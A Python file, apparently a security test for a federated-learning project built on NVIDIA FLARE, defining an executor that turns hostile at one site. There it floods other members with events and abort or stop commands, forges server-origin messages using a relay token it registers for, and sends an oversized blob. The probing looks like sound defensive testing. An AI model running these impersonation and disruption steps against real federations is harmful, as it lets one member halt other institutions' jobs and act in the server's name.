"""A hospital with a changed installation: before it answers, its executor tries what FLARE lets a member send.

It is copied into a job, and is hostile at the site HOSTILE alone. It ends its first round with a return code of FLARE's
that ends jobs. What it tried is in the file `tried.json` in its run folder.
"""

import json
import time
from pathlib import Path

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_constant import EventScope, FedEventHeader, FLContextKey, ReservedTopic, ReturnCode
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable, make_reply
from nvflare.apis.signal import Signal
from nvflare.app_common.app_event_type import AppEventType
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.fuel.f3.message import Message
from nvflare.private.defs import CellMessageHeaderKeys, ClientType
from nvflare.private.fed.authenticator import Authenticator

from pfedsam.flare.context import run_dir
from pfedsam.flare.executor import PFedSAMExecutor

HOSTILE = "site-3"
FORGED = "forged_origin"
LARGE = 70_000_000  # bytes of a message that no process takes
OF_JOBS = ("handle_dead_job", "update_run_status", "app_command", "reset_errors", "aux_send")
EVENTS = [value for kind in (EventType, AppEventType) for name, value in vars(kind).items() if name.isupper()]


class Hostile(PFedSAMExecutor):
    """Our executor, hostile at one site."""

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        if fl_ctx.get_identity_name() != HOSTILE:
            return super().execute(task_name, shareable, fl_ctx, abort_signal)
        place = Path(run_dir(fl_ctx)) / "tried.json"
        if place.exists():
            return super().execute(task_name, shareable, fl_ctx, abort_signal)
        place.write_text(json.dumps(self.attack(fl_ctx)))
        return make_reply(ReturnCode.TASK_UNKNOWN)

    def attack(self, fl_ctx):
        engine = fl_ctx.get_engine()
        cell, (site, _, job) = engine.get_cell(), str(engine.get_cell().get_fqcn()).partition(".")
        others = [client.name for client in engine.get_clients() if client.name != site]
        for event in EVENTS:
            for targets in (None, *([one] for one in others)):
                engine.send_aux_request(targets, "fed.event", event_message(event), 0.0, fl_ctx, optional=True)
        for topic in (ReservedTopic.END_RUN, ReservedTopic.DO_TASK, ReservedTopic.ABORT_ASK):
            engine.send_aux_request(others, topic, Shareable(), 0.0, fl_ctx, optional=True)
        servers = ["server", f"server.{job}"]
        sites = [name for other in others for name in (other, f"{other}.{job}")]
        for channel, topics, targets in (
            ("server_command", OF_JOBS, servers),
            ("server_parent_listener", ("update_run_status", "heartbeat"), servers),
            ("client_command", ("abort", "abort_task", "start_app"), sites),
            ("_net_manager", ("stop_cell", "stop", "change_root", "config_vars"), [*servers, *sites]),
            ("admin", ("train.abort", "sys.info", "client.shutdown"), sites),
        ):
            for topic in topics:
                for target in targets:
                    message = new_cell_message({"job_id": job}, Shareable({"client_name": others[0]}))
                    cell.core_cell.fire_and_forget(channel, topic, target, message, optional=True)
        forge(cell, site, job, others, Path(engine.get_workspace().get_startup_kit_dir()))
        for target in servers:
            cell.send_blob("server_command", "submit_update", target, Message({}, bytes(LARGE)))
        time.sleep(3)
        return {"events": len(EVENTS), "others": others}


def forge(cell, site, job, others, startup):
    """Orders to the other sites in the server's name, with a token that FLARE ties to no name: a relay's."""
    with_keys = (startup / "client.key").exists()  # not in FLARE's simulator
    token, signature = relay_s_token(cell, site, startup) if with_keys else ("", "")

    def in_another_s_name(message):
        if message.get_header(FORGED):
            message.set_header(MessageHeaderKey.ORIGIN, message.get_header(FORGED))
            if token:
                message.set_header(CellMessageHeaderKeys.TOKEN, token)
                message.set_header(CellMessageHeaderKeys.TOKEN_SIGNATURE, signature)

    cell.core_cell.add_outgoing_request_filter("*", "*", in_another_s_name)
    orders = [(f"server.{job}", "server_parent_listener", "update_run_status", "server")]
    for other in others:
        orders += [
            (f"server.{job}", "aux_communication", ReservedTopic.END_RUN, f"{other}.{job}"),
            ("server", "client_command", "abort", f"{other}.{job}"),
            ("server", "admin", "train.abort", other),
        ]
    for origin, channel, topic, target in orders:
        message = new_cell_message({"job_id": job, FORGED: origin}, Shareable({"client_name": target}))
        message.payload.set_peer_props({})
        cell.core_cell.fire_and_forget(channel, topic, target, message, optional=True)


def relay_s_token(cell, site, startup):
    """Register a second time, as a relay. FLARE signs a token, and lists it nowhere."""
    facts = json.loads((startup / "fed_client.json").read_text())["servers"][0]
    certificates = {
        "root_cert_file": f"{startup}/rootCA.pem",
        "private_key_file": f"{startup}/client.key",
        "cert_file": f"{startup}/client.crt",
    }
    relay = Authenticator(
        cell,
        facts["name"],
        site,
        ClientType.RELAY,
        facts["identity"],
        True,
        msg_timeout=5,
        retry_interval=1,
        **certificates,
    )
    return relay.authenticate(FLContext(), Signal())[:2]


def event_message(event):
    """An event of federated scope, as a member can send it."""
    request = Shareable()
    request.set_header(FedEventHeader.TIMESTAMP, time.time())
    request.set_header(FedEventHeader.EVENT_ID, f"{event}-{time.time_ns()}")
    request.set_header(FedEventHeader.EVENT_TYPE, event)
    request.set_header(FLContextKey.EVENT_SCOPE, EventScope.FEDERATION)
    return request
